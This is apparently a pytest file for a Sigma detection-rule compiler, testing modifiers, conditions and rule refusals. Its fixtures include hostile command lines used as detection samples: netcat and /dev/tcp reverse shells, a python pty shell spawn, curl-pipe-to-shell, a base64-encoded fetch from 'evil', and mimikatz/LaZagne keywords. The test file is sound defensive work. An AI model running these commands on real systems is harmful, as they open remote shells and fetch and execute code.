"""Every value modifier and condition form, compiled by our engine and checked
against hand-written expectations (the oracle test compares with pySigma's SQL)."""

import base64

import pytest
import yaml
from sigma.collection import SigmaCollection

from hive.sigma import RuleError, RuleIndex, SigmaEvent
from hive.sigma._compile import compile_rule


def rule_from(detection: dict, category: str = "process_creation"):
    document = {
        "title": "t", "id": "00000000-0000-4000-8000-000000000001",
        "logsource": {"product": "linux", "category": category},
        "detection": detection,
    }
    (parsed,) = SigmaCollection.from_yaml(yaml.safe_dump(document), collect_errors=True).rules
    return compile_rule(parsed)


def check(detection: dict, fields: dict, category: str = "process_creation") -> bool:
    rule = rule_from(detection, category)
    event = SigmaEvent(category, fields)
    verdict = rule.match(event)
    if verdict:
        # The index must never hide a rule from an event it matches.
        assert rule in RuleIndex([rule]).candidates(SigmaEvent(category, fields))
    return verdict


def sel(**items) -> dict:
    return {"selection": {k.replace("__", "|"): v for k, v in items.items()},
            "condition": "selection"}


# -- values --------------------------------------------------------------------


def test_equality_is_case_insensitive_and_whole_value():
    d = sel(Image="/usr/bin/Bash")
    assert check(d, {"Image": "/USR/BIN/bash"})
    assert not check(d, {"Image": "/usr/bin/bash2"})
    assert not check(d, {"Image": "x/usr/bin/bash"})
    assert not check(d, {})


def test_value_list_is_any_of():
    d = sel(Image=["/bin/sh", "/bin/dash"])
    assert check(d, {"Image": "/bin/dash"})
    assert not check(d, {"Image": "/bin/bash"})


def test_wildcards_star_and_question_mark():
    d = sel(CommandLine="curl * | ?h")
    assert check(d, {"CommandLine": "curl http://x/y | sh"})
    assert check(d, {"CommandLine": "CURL http://x/y | bh"})
    assert not check(d, {"CommandLine": "curl http://x/y | bash"})
    assert not check(d, {"CommandLine": "wget http://x/y | sh"})


def test_escaped_wildcard_is_literal():
    d = sel(CommandLine=r"echo \*")
    assert check(d, {"CommandLine": "echo *"})
    assert not check(d, {"CommandLine": "echo x"})


def test_contains_startswith_endswith():
    assert check(sel(CommandLine__contains="/dev/tcp/"), {"CommandLine": "bash -i >& /DEV/TCP/1.2.3.4/1 0>&1"})
    assert not check(sel(CommandLine__contains="/dev/tcp/"), {"CommandLine": "bash -i"})
    assert check(sel(Image__startswith="/tmp/"), {"Image": "/tmp/x"})
    assert not check(sel(Image__startswith="/tmp/"), {"Image": "/var/tmp/x"})
    assert check(sel(Image__endswith="/nc"), {"Image": "/usr/bin/nc"})
    assert not check(sel(Image__endswith="/nc"), {"Image": "/usr/bin/ncat"})


def test_contains_all():
    d = sel(CommandLine__contains__all=["-e", "/bin/sh"])
    assert check(d, {"CommandLine": "nc -e /bin/sh 1.2.3.4 4444"})
    assert not check(d, {"CommandLine": "nc /bin/sh 1.2.3.4"})
    assert not check(d, {"CommandLine": "nc -e /bin/bash 1.2.3.4"})


def test_two_fields_in_one_selection_are_anded():
    d = sel(Image__endswith="/python3", CommandLine__contains="pty.spawn")
    assert check(d, {"Image": "/usr/bin/python3", "CommandLine": "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"})
    assert not check(d, {"Image": "/usr/bin/python3", "CommandLine": "python3 app.py"})
    assert not check(d, {"Image": "/usr/bin/perl", "CommandLine": "pty.spawn"})


def test_re_and_its_flags():
    assert check(sel(CommandLine__re=r"nc(at)? .*-e"), {"CommandLine": "ncat 1.2.3.4 -e sh"})
    # re is case-sensitive unless |i
    assert not check(sel(CommandLine__re=r"NC .*-e"), {"CommandLine": "nc 1.2.3.4 -e sh"})
    assert check(sel(CommandLine__re__i=r"NC .*-e"), {"CommandLine": "nc 1.2.3.4 -e sh"})
    assert not check(sel(CommandLine__re=r"^b.c$"), {"CommandLine": "a\nb\nc"})
    assert check(sel(CommandLine__re__m=r"^b$"), {"CommandLine": "a\nb\nc"})
    assert not check(sel(CommandLine__re=r"a.b"), {"CommandLine": "a\nb"})
    assert check(sel(CommandLine__re__s=r"a.b"), {"CommandLine": "a\nb"})


def test_re_with_contains_like_modifiers_is_searched():
    assert check(sel(CommandLine__re="tcp/[0-9]+"), {"CommandLine": "x /dev/tcp/1 y"})


def test_cidr_ipv4_and_ipv6():
    d = sel(DestinationIp__cidr=["10.0.0.0/8", "fc00::/7"])
    assert check(d, {"DestinationIp": "10.1.2.3"}, "network_connection")
    assert check(d, {"DestinationIp": "fd12::1"}, "network_connection")
    assert not check(d, {"DestinationIp": "11.0.0.1"}, "network_connection")
    assert not check(d, {"DestinationIp": "not an ip"}, "network_connection")
    assert not check(d, {}, "network_connection")


def test_base64_and_base64offset():
    encoded = base64.b64encode(b"curl http://evil").decode()
    assert check(sel(CommandLine__base64__contains="curl http://evil"), {"CommandLine": f"echo {encoded} | base64 -d"})
    for prefix in (b"", b"x", b"xy"):
        blob = base64.b64encode(prefix + b"/bin/bash -i" + b"tail").decode()
        assert check(sel(CommandLine__base64offset__contains="/bin/bash -i"), {"CommandLine": blob}), prefix
    assert not check(sel(CommandLine__base64offset__contains="/bin/bash -i"),
                     {"CommandLine": base64.b64encode(b"/bin/zsh -i").decode()})


def test_windash_expands_dash_and_slash():
    d = sel(CommandLine__windash__contains=" -exec ")
    assert check(d, {"CommandLine": "find . -exec sh ;"})
    assert check(d, {"CommandLine": "find . /exec sh ;"})
    assert check(d, {"CommandLine": "find . \u2013exec sh ;"})
    assert not check(d, {"CommandLine": "find . exec sh ;"})


def test_exists():
    assert check(sel(User__exists=True), {"User": "root"})
    assert not check(sel(User__exists=True), {})
    assert check(sel(User__exists=False), {})
    assert not check(sel(User__exists=False), {"User": "root"})


def test_null_and_empty_mean_absent():
    assert check(sel(User=None), {})
    assert not check(sel(User=None), {"User": "root"})
    assert check(sel(User=""), {})


def test_cased():
    d = sel(CommandLine__cased__contains="TCPSocket")
    assert check(d, {"CommandLine": "ruby -e TCPSocket.new"})
    assert not check(d, {"CommandLine": "ruby -e tcpsocket.new"})
    assert check(sel(Image__cased="/tmp/X"), {"Image": "/tmp/X"})
    assert not check(sel(Image__cased="/tmp/X"), {"Image": "/tmp/x"})


@pytest.mark.parametrize("modifier,bound,hits", [
    ("lt", 1024, {80: True, 1024: False, 8080: False}),
    ("lte", 1024, {80: True, 1024: True, 8080: False}),
    ("gt", 1024, {80: False, 1024: False, 8080: True}),
    ("gte", 1024, {80: False, 1024: True, 8080: True}),
])
def test_numeric_comparisons(modifier, bound, hits):
    d = sel(**{f"DestinationPort__{modifier}": bound})
    for port, expected in hits.items():
        assert check(d, {"DestinationPort": port}, "network_connection") is expected, port
        # a numeric string compares as a number too
        assert check(d, {"DestinationPort": str(port)}, "network_connection") is expected, port
    assert not check(d, {"DestinationPort": "http"}, "network_connection")


def test_numbers_and_booleans_compare_with_the_fields_text():
    assert check(sel(DestinationPort=4444), {"DestinationPort": 4444}, "network_connection")
    assert check(sel(DestinationPort=4444), {"DestinationPort": "4444"}, "network_connection")
    assert not check(sel(DestinationPort=4444), {"DestinationPort": 44444}, "network_connection")
    assert check(sel(Initiated=True), {"Initiated": "true"}, "network_connection")
    assert not check(sel(Initiated=False), {"Initiated": "true"}, "network_connection")


def test_fieldref():
    assert check(sel(ParentImage__fieldref="Image"), {"Image": "/bin/sh", "ParentImage": "/BIN/SH"})
    assert not check(sel(ParentImage__fieldref="Image"), {"Image": "/bin/sh", "ParentImage": "/bin/bash"})
    d = sel(CommandLine__fieldref__contains="Image")
    assert check(d, {"Image": "/tmp/x", "CommandLine": "sh -c /tmp/x now"})
    assert not check(d, {"Image": "/tmp/x", "CommandLine": "sh -c /tmp/y"})


def test_keywords_match_any_field():
    d = {"keywords": ["mimikatz", "lazagne"], "condition": "keywords"}
    assert check(d, {"Image": "/tmp/LaZagne.py"})
    assert check(d, {"CommandLine": "run mimikatz"})
    assert not check(d, {"Image": "/bin/ls", "CommandLine": "ls"})


def test_keywords_anded_need_not_share_a_field():
    d = {"a": ["curl"], "b": ["/tmp/"], "condition": "a and b"}
    assert check(d, {"Image": "/usr/bin/curl", "CommandLine": "-o /tmp/x"})
    assert not check(d, {"Image": "/usr/bin/curl", "CommandLine": "-o /var/x"})


# -- conditions ----------------------------------------------------------------


BASE = {
    "selection_img": {"Image|endswith": "/nc"},
    "selection_cli": {"CommandLine|contains": " -e "},
    "filter_main": {"ParentImage|endswith": "/sshd"},
    "filter_optional": {"User": "backup"},
}


def cond(condition: str, fields: dict) -> bool:
    return check({**BASE, "condition": condition}, fields)


NC_E = {"Image": "/bin/nc", "CommandLine": "nc -e /bin/sh x 1"}


def test_and_or_not_and_parentheses():
    assert cond("selection_img and selection_cli", NC_E)
    assert not cond("selection_img and selection_cli", {"Image": "/bin/nc", "CommandLine": "nc x"})
    assert cond("selection_img or selection_cli", {"Image": "/bin/nc"})
    assert cond("selection_img and not filter_main", NC_E)
    assert not cond("selection_img and not filter_main", {**NC_E, "ParentImage": "/usr/sbin/sshd"})
    assert cond("not (filter_main or filter_optional)", NC_E)
    assert not cond("not (filter_main or filter_optional)", {"User": "backup"})
    # precedence: not > and > or
    assert cond("filter_main or selection_img and selection_cli", NC_E)
    assert not cond("(filter_main or selection_img) and selection_cli", {"Image": "/bin/nc"})


def test_one_of_and_all_of_patterns():
    assert cond("1 of selection_*", {"CommandLine": "x -e y"})
    assert not cond("all of selection_*", {"CommandLine": "x -e y"})
    assert cond("all of selection_*", NC_E)
    assert cond("any of selection_*", {"Image": "/bin/nc"})
    assert cond("all of selection_* and not 1 of filter_*", NC_E)
    assert not cond("all of selection_* and not 1 of filter_*", {**NC_E, "User": "backup"})


def test_them():
    assert cond("1 of them", {"User": "backup"})
    assert not cond("1 of them", {"Image": "/bin/ls"})
    assert not cond("all of them", NC_E)
    assert cond("all of them", {**NC_E, "ParentImage": "/sbin/sshd", "User": "backup"})


def test_list_of_maps_is_or():
    d = {"selection": [{"Image|endswith": "/nc"}, {"Image|endswith": "/socat"}],
         "condition": "selection"}
    assert check(d, {"Image": "/usr/bin/socat"})
    assert not check(d, {"Image": "/usr/bin/ssh"})


def test_several_conditions_are_ored():
    d = {**BASE, "condition": ["selection_img", "filter_optional"]}
    assert check(d, {"User": "backup"})
    assert check(d, {"Image": "/bin/nc"})
    assert not check(d, {"Image": "/bin/ls"})


def test_negated_test_on_absent_field_is_true():
    assert cond("selection_img and not filter_main", {"Image": "/bin/nc"})


# -- refusals ------------------------------------------------------------------


def test_unknown_field_is_refused_with_its_name():
    with pytest.raises(RuleError) as e:
        rule_from(sel(Hostname="x"))
    assert e.value.kind == "field"
    assert "Hostname" in e.value.reason and "process_creation" in e.value.reason


def test_timestamp_modifiers_are_refused():
    with pytest.raises(RuleError) as e:
        rule_from(sel(ProcessId__hour=3))
    assert e.value.kind == "value" and "timestamp" in e.value.reason


def test_placeholders_are_refused():
    with pytest.raises(RuleError) as e:
        rule_from(sel(User__expand="%admins%"))
    assert e.value.kind == "value" and "%admins%" in e.value.reason


def test_unsupported_logsource_is_refused():
    document = {"title": "t", "id": "00000000-0000-4000-8000-000000000002",
                "logsource": {"product": "linux", "service": "sshd"},
                "detection": {"keywords": ["x"], "condition": "keywords"}}
    (parsed,) = SigmaCollection.from_yaml(yaml.safe_dump(document)).rules
    with pytest.raises(RuleError) as e:
        compile_rule(parsed)
    assert e.value.kind == "logsource" and "service=sshd" in e.value.reason


def test_unknown_selection_in_condition_is_refused():
    with pytest.raises(RuleError) as e:
        rule_from({"selection": {"Image": "x"}, "condition": "selection and nope"})
    assert e.value.kind == "condition" and "nope" in e.value.reason


def test_neq_negates_the_item():
    d = sel(Image__endswith="/nc", User__neq="root")
    assert check(d, {"Image": "/bin/nc", "User": "alice"})
    assert check(d, {"Image": "/bin/nc"})
    assert not check(d, {"Image": "/bin/nc", "User": "ROOT"})
